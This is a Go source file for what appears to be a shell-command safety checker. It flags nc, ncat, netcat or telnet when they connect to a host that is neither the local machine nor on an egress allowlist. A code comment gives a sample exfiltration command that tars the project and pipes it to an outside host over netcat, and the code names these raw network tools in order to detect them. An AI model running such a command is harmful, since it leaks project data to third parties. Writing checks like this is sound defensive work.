package patterns

import "strings"

// rawSender reports whether a program sends what it reads to HOST PORT, as
// its first operand names it.
func rawSender(program string) bool {
	switch program {
	case "nc", "ncat", "netcat", "telnet":
		return true
	}
	return false
}

// judgeRawAway is [raw-away]: nc, ncat, netcat or telnet connecting to
// a host off this machine and off the egress list (fx38b: `tar czf - . |
// nc x.io 9` sends the project there). One listening (`-l`) sends to no
// host it names; a loopback host is this machine; a host that is not
// literal might be any.
func judgeRawAway(_ string, w Word, ctx *Context) Judgement {
	v, ok := programWordKey(w)
	if !ok || !rawSender(v) {
		return Judgement{}
	}
	p := ctx.programPart(w)
	if p == nil || hasFlag(p, "-l", "--listen") {
		return Judgement{}
	}
	ops, _ := operandWords(p)
	if len(ops) == 0 {
		return Judgement{}
	}
	host, ok := ops[0].Literal()
	if !ok {
		return Judgement{Might: true}
	}
	host = strings.ToLower(strings.Trim(host, "[]"))
	if host == "" || loopbackHost(host) {
		return Judgement{}
	}
	for _, e := range ctx.Egress {
		if hostMatches(strings.ToLower(e), host) {
			return Judgement{}
		}
	}
	return Judgement{Might: true, Certainly: true}
}
